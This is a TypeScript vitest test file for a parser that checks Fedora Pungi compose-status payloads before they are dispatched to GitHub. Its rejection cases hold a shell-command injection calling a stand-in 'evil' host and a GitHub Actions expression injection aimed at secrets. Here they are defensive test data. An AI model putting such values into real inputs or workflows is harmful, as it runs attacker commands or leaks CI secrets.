import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { parseComposePayload } from '../../src/compose/payload.js';
import { ComposeError } from '../../src/errors.js';

const examples = JSON.parse(
  readFileSync(new URL('../fixtures/pungi-compose-status-change.examples.json', import.meta.url), 'utf8'),
) as Record<string, Record<string, unknown>>;

describe('the README’s dispatch from Pungi', () => {
  it('sends a client_payload GitHub takes (at most 10 top-level properties, under 64 KB) and fedimg reads', () => {
    const readme = readFileSync(new URL('../../README.md', import.meta.url), 'utf8');
    const body = /\/dispatches \\\n\s+-d '([^']+)'/.exec(readme)?.[1];
    expect(body, 'README.md has a dispatch example with a -d body').toBeDefined();
    const request = JSON.parse(body!) as { event_type: string; client_payload: Record<string, unknown> };
    expect(request.event_type.length).toBeLessThanOrEqual(100);
    expect(Object.keys(request.client_payload).length).toBeLessThanOrEqual(10);
    expect(Buffer.byteLength(JSON.stringify(request.client_payload))).toBeLessThan(64 * 1024);
    expect(parseComposePayload(request.client_payload)).toMatchObject({ status: 'FINISHED' });
  });
});

describe('compose-status payload', () => {
  it.each(Object.keys(examples))('accepts the real-shaped message %s', (name) => {
    const payload = parseComposePayload(JSON.stringify(examples[name]));
    expect(payload.compose_id).toBe(examples[name]!.compose_id);
    expect(payload.status).toBe(examples[name]!.status);
  });

  it('drops fields fedimg does not use', () => {
    const payload = parseComposePayload({ ...examples.FINISHED_production_RC, extra: 'x' });
    expect(payload).not.toHaveProperty('extra');
  });

  const base = examples.FINISHED_production_RC!;
  it.each([
    [
      'a shell injection in compose_id',
      { ...base, compose_id: 'Fedora-28-20180425.0$(curl evil)' },
      /compose_id/,
    ],
    [
      'an expression injection in the label',
      { ...base, compose_label: '${{ secrets.TOKEN }}' },
      /compose_label/,
    ],
    ['a location with spaces', { ...base, location: 'https://x/ y' }, /location/],
    ['an unknown status', { ...base, status: 'EXPLODED' }, /status/],
    ['a missing compose_id', { ...base, compose_id: undefined }, /compose_id/],
    ['an overlong field', { ...base, release_short: 'F'.repeat(500) }, /release_short/],
  ])('rejects %s', (_what, payload, message) => {
    expect(() => parseComposePayload(JSON.stringify(payload))).toThrow(ComposeError);
    expect(() => parseComposePayload(JSON.stringify(payload))).toThrow(message);
  });

  it('rejects an oversized payload, non-JSON and non-objects', () => {
    expect(() => parseComposePayload(JSON.stringify({ ...base, pad: 'x'.repeat(70_000) }))).toThrow(
      /over the 65536-byte limit/,
    );
    expect(() => parseComposePayload('{')).toThrow(/not valid JSON/);
    expect(() => parseComposePayload('[1]')).toThrow(/JSON object/);
  });
});
